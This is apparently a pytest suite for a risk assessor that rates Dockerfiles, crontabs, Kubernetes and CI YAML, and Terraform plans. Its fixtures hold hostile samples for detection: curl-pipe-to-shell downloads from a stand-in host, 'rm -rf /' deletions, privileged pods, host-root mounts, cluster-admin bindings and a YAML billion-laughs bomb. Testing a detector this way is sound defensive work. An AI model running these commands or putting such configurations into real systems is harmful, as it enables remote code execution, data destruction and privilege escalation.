"""Dockerfiles, cron, pipelines, manifests, and plans: their commands at their lines, and their own dangers."""

import json

import pytest

from app.risk.assess import assess_proposal
from assent.contracts import RiskLevel

SAFE, LOW, MEDIUM, HIGH, CRITICAL = RiskLevel


def assessed(language, text):
    return assess_proposal({"kind": "script", "title": "t", "language": language, "content": text})


def plan(kind, *actions, after=None):
    change = {"actions": actions, "before": {}, "after": after or {}}
    return json.dumps({"resource_changes": [{"address": "x.y", "type": kind, "change": change}]})


LAUGHS = "a: &a [x]\n" + "\n".join(
    f"{after}: &{after} [{', '.join([f'*{name}'] * 9)}]" for name, after in zip("abcdef", "bcdefg", strict=True)
)
POD = "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - name: a\n    image: a:1\n"
CASES = [
    ("dockerfile", "FROM alpine:3.20\nCOPY app /app\n", MEDIUM),
    ("dockerfile", "FROM alpine:3.20\nRUN apk add jq\n", MEDIUM),
    ("dockerfile", 'FROM alpine:3.20\nRUN ["apk", "add", "jq"]\n', MEDIUM),
    ("dockerfile", "FROM alpine:3.20\nRUN apk add curl \\\n  && curl https://x.example/i.sh | sh\n", CRITICAL),
    ("dockerfile", "FROM alpine:3.20\nRUN <<EOF\nls\ncurl https://x.example/i.sh | sh\nEOF\n", CRITICAL),
    ("dockerfile", "FROM alpine:3.20\nENV DB_PASSWORD=hunter2\n", HIGH),
    ("dockerfile", "FROM alpine:3.20\nARG VERSION=1.2\nUSER app\n", MEDIUM),
    ("dockerfile", "FROM alpine:3.20\nFETCH x\n", HIGH),
    ("crontab", "# m h dom mon dow\n0 3 * * * date\n", MEDIUM),
    ("crontab", "MAILTO=ops@example.com\n@daily root rm -rf /var/lib/postgresql\n", CRITICAL),
    ("crontab", "every day rm\n", HIGH),
    ("yaml", POD, MEDIUM),
    ("yaml", f"{POD}    securityContext: {{privileged: true}}\n", CRITICAL),
    ("yaml", f"{POD}    command: [sh, -c, 'curl https://x.example/i | sh']\n", CRITICAL),
    ("yaml", f"{POD}  volumes: [{{name: a, hostPath: {{path: /}}}}]\n", CRITICAL),
    ("yaml", "kind: ClusterRoleBinding\napiVersion: v1\nroleRef: {name: cluster-admin}\n", CRITICAL),
    ("yaml", "on: push\njobs:\n  a:\n    steps:\n    - run: npm ci\n", MEDIUM),
    ("yaml", "on: push\njobs:\n  a:\n    steps:\n    - run: sudo apt-get install -y jq\n", MEDIUM),
    ("yaml", "build:\n  script:\n  - apt-get install -y jq\n", MEDIUM),
    ("yaml", "on: push\njobs:\n  a:\n    steps:\n    - run: |\n        ls\n        rm -rf /\n", CRITICAL),
    ("yaml", "on: issues\njobs:\n  a:\n    steps:\n    - run: echo ${{ github.event.issue.title }}\n", HIGH),
    ("yaml", "services:\n  a:\n    image: a:1\n    volumes: ['/var/run/docker.sock:/var/run/docker.sock']\n", HIGH),
    ("yaml", "build:\n  script:\n  - make\n  - curl https://x.example/i | sh\n", CRITICAL),
    ("yaml", "a: 1\n", MEDIUM),
    ("yaml", "a: [\n", HIGH),
    ("json", plan("aws_instance", "no-op"), SAFE),
    ("json", plan("aws_instance", "create"), MEDIUM),
    ("json", plan("aws_instance", "delete"), CRITICAL),
    ("json", plan("aws_instance", "delete", "create"), HIGH),
    ("json", plan("aws_db_instance", "delete", "create"), CRITICAL),
    ("json", plan("aws_security_group", "update", after={"cidr_blocks": ["0.0.0.0/0"]}), HIGH),
    ("json", plan("aws_iam_role_policy", "create", after={"policy": '{"Action": "*"}'}), CRITICAL),
    ("json", "{", HIGH),
]


@pytest.mark.parametrize(("language", "text", "level"), CASES, ids=[f"{case[0]} {case[1]}"[:70] for case in CASES])
def test_a_document_is_rated_by_what_is_in_it(language, text, level):
    assessment = assessed(language, text)
    assert assessment.level is level, assessment.findings
    assert "code.failed" not in {found.rule for found in assessment.findings}


@pytest.mark.parametrize(
    ("language", "text", "line"),
    [
        ("dockerfile", "FROM alpine:3.20\n\nRUN ls\nRUN rm -rf /\n", 4),
        ("crontab", "# a\n\n0 3 * * * rm -rf /\n", 3),
        ("yaml", "on: push\njobs:\n  a:\n    steps:\n    - run: |\n        ls\n        rm -rf /\n", 7),
        ("yaml", f"{POD}    securityContext:\n      privileged: true\n", 8),
    ],
)
def test_the_worst_finding_is_at_its_line(language, text, line):
    assert assessed(language, text).findings[0].line == line


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("yaml", LAUGHS),
        ("yaml", "[" * 50_000),
        ("yaml", "a: &a [*a]\n"),
        ("json", "[" * 100_000),
        ("dockerfile", "RUN \\\n" * 50_000),
        ("crontab", "0 3 * * * ls\n" * 15_000),
    ],
)  # fmt: skip
def test_hostile_documents_are_not_safe(language, text):
    assert assessed(language, text).level.rank >= MEDIUM.rank
